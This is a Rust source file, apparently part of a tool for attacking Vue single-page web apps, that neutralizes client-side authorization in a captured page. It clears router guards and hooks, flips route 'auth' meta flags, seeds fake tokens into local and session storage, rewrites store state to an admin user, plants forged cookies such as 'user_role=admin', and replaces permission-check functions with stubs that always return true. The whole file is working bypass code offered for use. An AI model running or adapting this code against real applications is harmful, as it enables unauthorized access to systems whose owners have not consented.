// In-place neutralization of route guards and authorization state.
// Everything here mutates the captured page graph through explicit ports;
// the mutations are the component's entire purpose.
use crate::finder::FrameworkRoot;
use crate::models::{LogSink, ModifiedRoute, SecurityBypass};
use crate::page::{ArrayRef, ObjectRef, PageSnapshot, Value};
use crate::router::RouterHandle;
use chrono::Utc;
use tracing::debug;

const LIFECYCLE_HOOKS: &[&str] = &["beforeEach", "beforeResolve", "afterEach"];

const GUARD_ARRAYS: &[&str] = &[
    "beforeGuards",
    "beforeResolveGuards",
    "afterGuards",
    "beforeHooks",
    "resolveHooks",
    "afterHooks",
];

const AUTH_TOKENS: &[&str] = &["token", "accessToken", "authToken", "jwt", "bearerToken"];

const AUTH_COOKIES: &[&str] = &[
    "authenticated=true",
    "user_role=admin",
    "session_valid=true",
    "is_logged_in=true",
    "admin_access=true",
];

const PERMISSION_CHECKS: &[&str] = &["hasPermission", "checkAuth", "isAuthenticated"];

/// Truthy sentinel for an authorization flag.
fn is_auth_true(value: &Value) -> bool {
    match value {
        Value::Bool(b) => *b,
        Value::Int(i) => *i == 1,
        Value::Float(f) => *f == 1.0,
        Value::Str(s) => s == "true" || s == "1",
        _ => false,
    }
}

/// Runs both neutralization procedures. Their relative order does not affect
/// correctness; they only share the router reference.
pub fn neutralize(
    router: &RouterHandle,
    root: &FrameworkRoot,
    page: &PageSnapshot,
    sink: &LogSink,
) -> (Vec<ModifiedRoute>, SecurityBypass) {
    let modified = patch_route_auth(router, sink);
    let bypass = enhanced_bypass(router, root, page, sink);
    (modified, bypass)
}

/// Flips every truthy auth-flag meta field (key containing "auth",
/// case-insensitively) to false across the full route set.
pub fn patch_route_auth(router: &RouterHandle, sink: &LogSink) -> Vec<ModifiedRoute> {
    let mut modified = Vec::new();

    if let Some(accessor @ Value::Function(_)) = router.value.get_path(&["getRoutes"]) {
        for route in flat(&accessor.call()) {
            patch_meta(&route, &mut modified);
        }
    } else if let Some(routes) = router
        .value
        .get_path(&["options", "routes"])
        .and_then(|v| v.as_array().cloned())
    {
        walk_routes(&routes, &mut |route| patch_meta(route, &mut modified));
    } else if let Some(matcher) = router.value.get_path(&["matcher"]).filter(Value::is_truthy) {
        if let Some(accessor @ Value::Function(_)) = matcher.get_path(&["getRoutes"]) {
            for route in flat(&accessor.call()) {
                patch_meta(&route, &mut modified);
            }
        } else if matcher.get_path(&["match"]).is_some() {
            if let Some(matched) = router
                .value
                .get_path(&["history", "current", "matched"])
                .and_then(|v| v.as_array().cloned())
            {
                for route in matched.items() {
                    patch_meta(&route, &mut modified);
                }
            }
        }
    } else {
        sink.warn("unrecognized router version, skipping route auth patch");
    }

    if modified.is_empty() {
        sink.log("no route auth fields needed modification");
    } else {
        sink.log("modified route auth meta:");
        let rows = modified
            .iter()
            .filter_map(|m| serde_json::to_value(m).ok())
            .collect();
        sink.table(rows);
    }

    modified
}

fn flat(routes: &Value) -> Vec<Value> {
    routes.as_array().map(ArrayRef::items).unwrap_or_default()
}

/// Visits every node of a route-config tree, children after their parent.
fn walk_routes(routes: &ArrayRef, visit: &mut impl FnMut(&Value)) {
    for route in routes.items() {
        visit(&route);
        if let Some(children) = route
            .get_path(&["children"])
            .and_then(|v| v.as_array().cloned())
        {
            if !children.is_empty() {
                walk_routes(&children, visit);
            }
        }
    }
}

fn patch_meta(route: &Value, modified: &mut Vec<ModifiedRoute>) {
    let meta = match route.get_path(&["meta"]).and_then(|v| v.as_object().cloned()) {
        Some(meta) => meta,
        None => return,
    };
    for key in meta.keys() {
        if !key.to_lowercase().contains("auth") {
            continue;
        }
        match meta.get(&key) {
            Ok(Some(v)) if is_auth_true(&v) => {
                meta.set(&key, Value::Bool(false));
                modified.push(ModifiedRoute {
                    path: route
                        .get_path(&["path"])
                        .and_then(|v| v.as_str().map(str::to_string))
                        .unwrap_or_default(),
                    name: route
                        .get_path(&["name"])
                        .and_then(|v| v.as_str().map(str::to_string))
                        .unwrap_or_default(),
                });
            }
            Ok(_) => {}
            Err(e) => debug!("patch_route_auth: meta key {} unreadable: {}", key, e),
        }
    }
}

/// The broader bypass: guard clearing, token seeding, store-state flips,
/// cookie planting, and permission-check replacement. Every step is guarded
/// independently so one hostile surface cannot block the others.
pub fn enhanced_bypass(
    router: &RouterHandle,
    root: &FrameworkRoot,
    page: &PageSnapshot,
    sink: &LogSink,
) -> SecurityBypass {
    let mut bypass = SecurityBypass::default();

    // 1. lifecycle hooks become no-ops, internal guard arrays are truncated
    if let Some(router_obj) = router.obj() {
        for hook in LIFECYCLE_HOOKS {
            match router_obj.get(hook) {
                Ok(Some(Value::Function(_))) => {
                    router_obj.set(hook, Value::function("", "() => {}"));
                }
                Ok(_) => {}
                Err(e) => debug!("enhanced_bypass: hook {} unreadable: {}", hook, e),
            }
        }
        for prop in GUARD_ARRAYS {
            if let Ok(Some(Value::Array(arr))) = router_obj.get(prop) {
                arr.clear();
            }
        }
        bypass.router_guards_cleared = true;
    }

    // 2. seed missing auth tokens into both storage ports
    let stamp = Utc::now().timestamp_millis();
    for token in AUTH_TOKENS {
        if page.local_storage.get_item(token).is_none() {
            page.local_storage
                .set_item(token, &format!("bypassed_token_{}", stamp));
            bypass.tokens_bypass = true;
        }
        if page.session_storage.get_item(token).is_none() {
            page.session_storage
                .set_item(token, &format!("bypassed_token_{}", stamp));
            bypass.session_bypass = true;
        }
    }

    // 3. flip authentication state inside a reachable state store
    let props = Value::Object(root.props().clone());
    if let Some(state) =
        props.get_path(&["__vue_app__", "config", "globalProperties", "$store", "state"])
    {
        if let Some(user) = state.get_path(&["user"]).and_then(|v| v.as_object().cloned()) {
            if matches!(user.get("isAuthenticated"), Ok(Some(_))) {
                user.set("isAuthenticated", Value::Bool(true));
                bypass.permissions_bypass = true;
            }
            if matches!(user.get("permissions"), Ok(Some(_))) {
                user.set(
                    "permissions",
                    Value::array(vec![
                        Value::str("admin"),
                        Value::str("read"),
                        Value::str("write"),
                        Value::str("delete"),
                    ]),
                );
                bypass.permissions_bypass = true;
            }
            if matches!(user.get("role"), Ok(Some(_))) {
                user.set("role", Value::str("admin"));
                bypass.permissions_bypass = true;
            }
        }
        if let Some(auth) = state.get_path(&["auth"]).and_then(|v| v.as_object().cloned()) {
            if matches!(auth.get("isLoggedIn"), Ok(Some(_))) {
                auth.set("isLoggedIn", Value::Bool(true));
                bypass.permissions_bypass = true;
            }
            if matches!(auth.get("user"), Ok(Some(_))) {
                auth.set(
                    "user",
                    Value::Object(
                        ObjectRef::new()
                            .with("id", Value::int(1))
                            .with("role", Value::str("admin"))
                            .with("permissions", Value::array(vec![Value::str("all")])),
                    ),
                );
                bypass.permissions_bypass = true;
            }
        }
    }

    // 4. plant the usual authentication cookies
    for cookie in AUTH_COOKIES {
        page.cookies.set(&format!("{}; path=/", cookie));
        bypass.cookies_bypass = true;
    }

    // 5. replace global permission-check functions with constant-true stubs
    for name in PERMISSION_CHECKS {
        match page.globals.get(name) {
            Ok(Some(v)) if v.is_truthy() => {
                page.globals
                    .set(name, Value::function_returning(name, Value::Bool(true)));
                bypass.permissions_bypass = true;
            }
            Ok(_) => {}
            Err(e) => debug!("enhanced_bypass: global {} unreadable: {}", name, e),
        }
    }

    sink.log("enhanced security bypass executed");
    sink.log(format!(
        "bypass results: {}",
        serde_json::to_string(&bypass).unwrap_or_default()
    ));

    bypass
}
